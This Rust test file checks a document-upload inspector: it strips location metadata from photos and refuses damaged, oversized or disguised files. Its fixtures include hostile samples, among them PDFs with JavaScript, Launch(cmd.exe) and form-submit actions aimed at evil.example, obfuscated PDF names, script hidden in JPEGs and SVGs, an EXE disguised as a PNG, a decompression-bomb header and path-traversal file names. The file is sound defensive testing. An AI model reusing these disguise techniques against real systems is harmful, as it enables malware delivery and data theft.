//! Real files at the door: good ones, broken ones, disguised ones.

use std::io::Cursor;

use amoe_documents::{
    Letters, Upload, UploadKind, UploadRefusal,
    upload::{BYTES_MAX, PIXELS_MAX},
};
use image::{DynamicImage, ImageFormat, RgbImage};

use crate::samples;

fn picture(format: ImageFormat) -> Vec<u8> {
    let image = RgbImage::from_fn(120, 80, |x, y| {
        image::Rgb([x, y, x * y % 251].map(|part| u8::try_from(part).unwrap_or(0)))
    });
    let mut bytes = Cursor::new(Vec::new());
    DynamicImage::from(image).write_to(&mut bytes, format).unwrap();
    bytes.into_inner()
}

/// A segment of a JPEG, put right behind its start.
fn with_segment(jpeg: &[u8], marker: u8, body: &[u8]) -> Vec<u8> {
    let length = u16::try_from(body.len() + 2).unwrap().to_be_bytes();
    [&jpeg[..2], &[0xff, marker], &length, body, &jpeg[2..]].concat()
}

/// Exif with an orientation and a place, as a phone writes it.
fn exif(orientation: u8) -> Vec<u8> {
    let mut body = b"Exif\0\0MM\0\x2a\0\0\0\x08\0\x02".to_vec();
    body.extend([0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, orientation, 0, 0]);
    body.extend([0x88, 0x25, 0, 4, 0, 0, 0, 1, 0, 0, 0, 38]);
    body.extend([0, 0, 0, 0]);
    body.extend(b"GPS 30.4278 N 9.5981 W");
    body
}

fn contains(bytes: &[u8], part: &[u8]) -> bool {
    bytes.windows(part.len()).any(|window| window == part)
}

#[test]
fn a_photograph_is_taken_without_the_place_it_was_taken_at() {
    let photo = with_segment(&picture(ImageFormat::Jpeg), 0xe1, &exif(6));
    let photo = with_segment(&photo, 0xfe, b"my comment");
    assert!(contains(&photo, b"GPS 30.4278"));
    let upload = Upload::inspect(photo, "IMG_0001.JPG").unwrap();
    assert_eq!(
        (upload.kind, upload.pixels, upload.name.as_str()),
        (UploadKind::Jpeg, Some((120, 80)), "IMG_0001.jpg")
    );
    assert!(!contains(&upload.bytes, b"GPS 30.4278") && !contains(&upload.bytes, b"my comment"));
    // It still opens, still lies on its side, and is the same picture.
    let mut decoder = image::ImageReader::with_format(Cursor::new(&upload.bytes), ImageFormat::Jpeg)
        .into_decoder()
        .unwrap();
    assert_eq!(image::ImageDecoder::orientation(&mut decoder).unwrap().to_exif(), 6);
    let (before, after) = (picture(ImageFormat::Jpeg), &upload.bytes);
    assert_eq!(image::load_from_memory(&before).unwrap(), image::load_from_memory(after).unwrap());
}

#[test]
fn a_clean_photograph_is_kept_as_it_is() {
    let photo = picture(ImageFormat::Jpeg);
    assert_eq!(Upload::inspect(photo.clone(), "a.jpg").unwrap().bytes, photo);
}

#[test]
fn a_png_loses_its_texts_and_what_hides_behind_its_end() {
    let clean = picture(ImageFormat::Png);
    let end = clean.len() - 12;
    // A text chunk with its check sum, and an archive glued to the end.
    let text = [&[0, 0, 0, 9][..], b"tEXtWhere\0Bot", &[0x39, 0x5d, 0x6b, 0x4c]].concat();
    let dirty = [&clean[..end], &text, &clean[end..], b"PK\x03\x04 archive"].concat();
    let upload = Upload::inspect(dirty, "scan.png").unwrap();
    assert_eq!((upload.kind, upload.bytes), (UploadKind::Png, clean));
}

#[test]
fn a_pdf_of_ours_is_whole_and_half_of_it_is_damaged() {
    let pdf = Letters::new().paper(&samples::paper(amoe_documents::PaperKind::Prescription)).unwrap();
    let half = pdf[..pdf.len() / 2].to_vec();
    assert_eq!(Upload::inspect(pdf, "ordonnance.pdf").map(|u| u.kind), Ok(UploadKind::Pdf));
    assert_eq!(
        Upload::inspect(half, "ordonnance.pdf"),
        Err(UploadRefusal::Damaged { kind: UploadKind::Pdf })
    );
    assert_eq!(
        Upload::inspect(b"%PDF-1.7\nnothing\nstartxref\n99999\n%%EOF".to_vec(), "x.pdf"),
        Err(UploadRefusal::Damaged { kind: UploadKind::Pdf })
    );
}

/// A small PDF of these objects, with its table where it belongs.
fn pdf(objects: &[Vec<u8>], trailer: &str) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n".to_vec();
    let mut table = format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1);
    for (i, object) in objects.iter().enumerate() {
        table.push_str(&format!("{:010} 00000 n \n", out.len()));
        out.extend(format!("{} 0 obj\n", i + 1).bytes());
        out.extend(object);
        out.extend(b"\nendobj\n");
    }
    let at = out.len();
    let size = objects.len() + 1;
    out.extend(
        format!("{table}trailer\n<</Size {size}/Root 1 0 R{trailer}>>\nstartxref\n{at}\n%%EOF\n").bytes(),
    );
    out
}

fn packed(text: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(&mut encoder, text).unwrap();
    encoder.finish().unwrap()
}

fn stream(dictionary: &str, bytes: &[u8]) -> Vec<u8> {
    let head = format!("<<{dictionary}/Length {}>>\nstream\n", bytes.len());
    [head.as_bytes(), bytes, b"\nendstream"].concat()
}

#[test]
fn a_pdf_that_runs_something_is_refused_however_it_hides_it() {
    let catalog = |more: &str| format!("<</Type/Catalog/Pages 2 0 R{more}>>").into_bytes();
    let pages = b"<</Type/Pages/Kids[]/Count 0>>".to_vec();
    let inspect = |objects: &[Vec<u8>], trailer: &str| {
        Upload::inspect(pdf(&[vec![catalog(""), pages.clone()], objects.to_vec()].concat(), trailer), "a.pdf")
    };
    let script = b"<</S/JavaScript/JS(app.alert\\(1\\))>>";
    // Nothing but pages; the word in a text is no action.
    let text = stream("/Filter/FlateDecode", &packed(b"BT (Facture du cours JavaScript, Launch) Tj ET"));
    assert!(inspect(&[text], "").is_ok());
    let inside =
        |dictionary: &str, bytes: &[u8]| stream(&format!("/Type/ObjStm/N 1/First 4{dictionary}"), bytes);
    let object = [b"9 0 ".as_slice(), script].concat();
    for (what, objects) in [
        ("a script", vec![script.to_vec()]),
        ("a program", vec![b"<</S/Launch/F(cmd.exe)>>".to_vec()]),
        ("a name with escapes", vec![b"<</S/#4aavaScr#69pt/JS(x)>>".to_vec()]),
        ("a name as an object of its own", vec![b"/JavaScript".to_vec()]),
        ("in a stream of objects", vec![inside("/Filter/FlateDecode", &packed(&object))]),
        ("in an unpacked stream of objects", vec![inside("", &object)]),
        ("a form that sends itself", vec![b"<</S/SubmitForm/F(https://evil.example)>>".to_vec()]),
    ] {
        assert_eq!(inspect(&objects, ""), Err(UploadRefusal::Active), "{what}");
    }
    // Even where the table does not point.
    let mut appended = pdf(&[catalog(""), pages.clone()], "");
    appended.splice(9..9, b"7 0 obj <</S/JavaScript>> endobj\n".iter().copied());
    let at = String::from_utf8_lossy(&appended).rfind("startxref").unwrap();
    let table = String::from_utf8_lossy(&appended).find("xref\n0").unwrap();
    appended.truncate(at);
    appended.extend(format!("startxref\n{table}\n%%EOF\n").bytes());
    assert_eq!(Upload::inspect(appended, "a.pdf"), Err(UploadRefusal::Active));

    assert_eq!(inspect(&[], "/Encrypt 3 0 R"), Err(UploadRefusal::Encrypted));
    let damaged = Err(UploadRefusal::Damaged { kind: UploadKind::Pdf });
    let twice = packed(&packed(&object));
    for (what, filter) in [
        ("packed twice", "/Filter[/FlateDecode/FlateDecode]"),
        ("packed in a rare way", "/Filter/LZWDecode"),
        ("packed in a way that stands elsewhere", "/Filter 5 0 R"),
    ] {
        assert_eq!(inspect(&[inside(filter, &twice)], ""), damaged, "{what}");
    }
}

#[test]
fn the_name_and_its_ending_prove_nothing() {
    let page = b"<!DOCTYPE html><html><script>alert(1)</script></html>".to_vec();
    assert_eq!(Upload::inspect(page, "photo.jpg"), Err(UploadRefusal::NotAllowed { found: "text/html" }));
    let program = b"MZ\x90\0\x03\0\0\0".to_vec();
    assert!(matches!(Upload::inspect(program, "photo.png"), Err(UploadRefusal::NotAllowed { .. })));
    assert_eq!(
        Upload::inspect(b"just words".to_vec(), "note.pdf"),
        Err(UploadRefusal::NotAllowed { found: "unknown" })
    );
    let svg = br#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>"#.to_vec();
    assert!(matches!(Upload::inspect(svg, "photo.png"), Err(UploadRefusal::NotAllowed { .. })));
    // A picture called a PDF is taken as what it is.
    let upload = Upload::inspect(picture(ImageFormat::Png), "facture.pdf").unwrap();
    assert_eq!((upload.kind, upload.name.as_str()), (UploadKind::Png, "facture.png"));
}

#[test]
fn a_page_hidden_in_a_picture_does_not_survive() {
    let page = b"<html><script>alert(1)</script></html>";
    let mut disguised = with_segment(&picture(ImageFormat::Jpeg), 0xfe, page);
    disguised.extend(page);
    let upload = Upload::inspect(disguised, "photo.html").unwrap();
    assert!(!contains(&upload.bytes, b"<script>"));
    assert_eq!(upload.name, "photo.jpg");
}

#[test]
fn a_picture_that_is_cut_off_is_damaged() {
    let jpeg = picture(ImageFormat::Jpeg);
    for cut in [3, 20, jpeg.len() / 2, jpeg.len() - 2] {
        assert_eq!(
            Upload::inspect(jpeg[..cut].to_vec(), "a.jpg"),
            Err(UploadRefusal::Damaged { kind: UploadKind::Jpeg }),
            "{cut} of {}",
            jpeg.len()
        );
    }
    let png = picture(ImageFormat::Png);
    for cut in [10, png.len() / 2, png.len() - 13] {
        assert_eq!(
            Upload::inspect(png[..cut].to_vec(), "a.png"),
            Err(UploadRefusal::Damaged { kind: UploadKind::Png }),
            "{cut} of {}",
            png.len()
        );
    }
}

#[test]
fn ten_megabytes_pass_and_one_byte_more_does_not() {
    let mut jpeg = picture(ImageFormat::Jpeg);
    jpeg.resize(BYTES_MAX, 0);
    assert!(Upload::inspect(jpeg.clone(), "a.jpg").is_ok());
    jpeg.push(0);
    assert_eq!(Upload::inspect(jpeg, "a.jpg"), Err(UploadRefusal::TooLarge { bytes: BYTES_MAX + 1 }));
    assert_eq!(Upload::inspect(Vec::new(), "a.jpg"), Err(UploadRefusal::Empty));
}

#[test]
fn a_small_file_that_unpacks_to_a_huge_picture_is_refused_before_it_does() {
    // The header of a PNG that promises 60,000 × 60,000 dots.
    let mut png = picture(ImageFormat::Png);
    png[16..20].copy_from_slice(&60_000_u32.to_be_bytes());
    png[20..24].copy_from_slice(&60_000_u32.to_be_bytes());
    let check = crc32(&png[12..29]);
    png[29..33].copy_from_slice(&check.to_be_bytes());
    const { assert!(60_000_u64 * 60_000 > PIXELS_MAX) };
    assert_eq!(
        Upload::inspect(png, "a.png"),
        Err(UploadRefusal::TooManyPixels { width: 60_000, height: 60_000 })
    );
}

/// The check sum of PNG chunks.
fn crc32(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(u32::MAX, |sum, &byte| {
        (0..8).fold(sum ^ u32::from(byte), |s, _| if s & 1 == 1 { 0xedb8_8320 ^ (s >> 1) } else { s >> 1 })
    })
}

#[test]
fn names_lose_folders_tricks_and_length() {
    let name = |declared: &str| Upload::inspect(picture(ImageFormat::Png), declared).unwrap().name;
    assert_eq!(name("../../etc/passwd"), "passwd.png");
    assert_eq!(name(r"C:\Users\Salma\scan.png"), "scan.png");
    assert_eq!(name("ordo\u{202e}gnp.exe"), "ordognp.png");
    assert_eq!(name("وصفة الطبيب.jpeg"), "وصفة الطبيب.png");
    assert_eq!(name("a\0b\n<c>.png"), "abc.png");
    for nothing in ["", "...", "/", ".png", "  "] {
        assert_eq!(name(nothing), "document.png", "{nothing:?}");
    }
    assert!(name(&"é".repeat(500)).chars().count() <= 104);
}
